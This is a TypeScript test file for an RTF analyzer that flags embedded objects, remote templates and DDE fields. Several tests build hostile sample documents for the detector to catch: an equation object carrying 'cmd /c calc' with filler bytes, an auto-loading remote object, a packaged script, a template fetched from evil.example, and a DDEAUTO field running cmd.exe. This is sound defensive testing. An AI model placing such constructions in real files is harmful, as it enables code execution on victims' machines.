import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readBytes, toSignLines } from '../testing/read-sample-file.ts'

const read = (text: string) => readBytes(Buffer.from(text, 'latin1'), 'a.doc')
const long = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(value)
  return bytes
}
const string = (text: string) =>
  text === '' ? long(0) : Buffer.concat([long(text.length + 1), Buffer.from(`${text}\0`, 'latin1')])
/** An embedded object (MS-OLEDS §2.2.5) in hexadecimal. */
const ole1 = (className: string, data: Buffer, topic = '') =>
  Buffer.concat([
    long(0x501),
    long(topic === '' ? 2 : 1),
    string(className),
    string(topic),
    string(''),
    long(data.length),
    data,
  ]).toString('hex')

// Written by LibreOffice 7.4.
test('a document of another program gives text, link and author, and no sign', async () => {
  const bytes = readFileSync(new URL('samples/plain.rtf', import.meta.url))
  const reading = await readBytes(bytes, 'a.rtf')

  expect(reading.text).toContain('お世話になっております。売上の概要をご報告いたします。')
  expect(reading.links).toEqual([
    { url: 'https://www.kohoku-shoji.co.example/news', kind: 'document' },
  ])
  expect(reading.facts).toContainEqual({ name: 'author', value: '山田 太郎' })
  expect([reading.signs, reading.problems]).toEqual([[], []])
})

test('Japanese in the charset of its font is read', async () => {
  const { text } = await read(
    "{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0\\fcharset0 Arial;}{\\f1\\fcharset128 MS Gothic;}}\\f1\\'90\\'bf\\'8b\\'81\\'8f\\'91\\f0 A\\u26085?\\u26412?}",
  )
  expect(text).toBe('請求書A日本')
})

describe('equations', () => {
  const equation = ole1(
    'Equation.3',
    Buffer.concat([
      Buffer.alloc(28),
      Buffer.from([3, 1, 1, 3, 10, 8, 90, 1]),
      Buffer.from(`cmd /c calc${'A'.repeat(40)}`),
    ]),
  )

  test.each([
    ['plain', `{\\rtf1{\\object\\objemb{\\*\\objdata ${equation}}}}`],
    [
      'broken over lines',
      `{\\rtf1{\\object{\\*\\objdata ${equation.replace(/(....)/g, '$1\r\n ')}}}}`,
    ],
    [
      'with skipped groups inside',
      `{\\rtf1{\\object{\\*\\objdata ${equation.slice(0, 9)}{\\*\\zzz 4142}${equation.slice(9)}}}}`,
    ],
    [
      'with control words inside',
      `{\\rtf1{\\object{\\*\\objdata ${equation.slice(0, 8)}\\foo1 ${equation.slice(8)}}}}`,
    ],
    [
      'with escaped characters inside',
      `{\\rtf1{\\object{\\*\\objdata ${equation.slice(0, 8)}\\'ab${equation.slice(8)}}}}`,
    ],
    ['without a version and never closed', `{\\rt{\\object{\\*\\objdata ${equation}`],
    [
      'as raw bytes',
      `{\\rtf1{\\object{\\*\\objdata \\bin${equation.length / 2} ${Buffer.from(equation, 'hex').toString('latin1')}}}}`,
    ],
  ])('%s', async (_how, text) => {
    const lines = toSignLines(await read(text))

    expect(lines[0]).toBe('embedded-object: Equation.3')
    expect(lines[1]).toContain('equation-object: command in the equation: cmd /c calc')
  })
})

test('an object that loads itself from the web is seen', async () => {
  const data = ole1('Word.Document.8', Buffer.alloc(0), 'http://198.51.100.9/a.doc')
  const reading = await read(`{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata ${data}}}}`)

  expect(toSignLines(reading)).toEqual([
    'embedded-object: Word.Document.8 (loads itself when the document is opened)',
    'external-link: linked object: http://198.51.100.9/a.doc',
  ])
  expect(reading.links).toEqual([{ url: 'http://198.51.100.9/a.doc', kind: 'resource' }])
})

test('a packed script comes out with its name', async () => {
  const path = 'C:\\a\\x.js'
  const packed = Buffer.concat([
    Buffer.from(`\x02\0x.js\0${path}\0\0\0\x03\0`, 'latin1'),
    string(path),
    long(3),
    Buffer.from('x()'),
  ])
  const reading = await read(`{\\rtf1{\\object{\\*\\objdata ${ole1('Package', packed)}}}}`)

  expect(toSignLines(reading)).toContain('embedded-executable: x.js')
  expect(reading.members?.map(({ name }) => name)).toEqual(['x.js'])
})

test.each([
  [
    '{\\rtf1{\\*\\template http://evil.example/t.dotm}x}',
    ['remote-template: template: http://evil.example/t.dotm'],
  ],
  [
    '{\\rtf1{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}}',
    ['dde: DDEAUTO c:\\\\cmd.exe "/k calc"'],
  ],
  ['{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}x}', []],
  ['{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://a.example"}{\\fldrslt x}}}', []],
])('%s', async (text, signs) => {
  expect(toSignLines(await read(text))).toEqual(signs)
})

test('a million nested groups end in a problem and not in a crash', async () => {
  const start = process.cpuUsage()
  const { problems, text } = await read(`{\\rtf1 x${'{'.repeat(1_000_000)}`)
  const { user, system } = process.cpuUsage(start)

  expect([text, problems]).toEqual(['x', ['over-nested']])
  expect((user + system) / 1_000).toBeLessThan(1_000)
})

test('any pieces of RTF are read without a throw, twice the same', async () => {
  const piece = fc.constantFrom(
    '{',
    '}',
    '\\',
    '\\*',
    '\\object',
    '\\objdata ',
    '\\objclass ',
    '\\bin5 ',
    '\\bin99999999 ',
    '\\field',
    '\\fldinst ',
    '\\fldrslt ',
    'DDE a "b"',
    '\\u-1 ',
    '\\uc9 ',
    "\\'8",
    "\\'90",
    '\\f1',
    '\\fonttbl',
    '\\fcharset128 ',
    '\\ansicpg932 ',
    '\\info',
    '\\author ',
    '\\pict\\pngblip ',
    '0105',
    '02000000',
    'd0cf11e0a1b11ae1',
    '\xff',
    '\n',
    'ab',
    '\\template ',
    '\\par',
    '\\objupdate',
  )
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 60 }), async (pieces) => {
      const text = `{\\rtf1${pieces.join('')}`
      const reading = await read(text)
      expect(reading.problems).not.toContain('file-damaged')
      expect(await read(text)).toEqual(reading)
    }),
    { seed: 1, interruptAfterTimeLimit: 2_000, numRuns: 100_000, markInterruptAsFailure: false },
  )
})
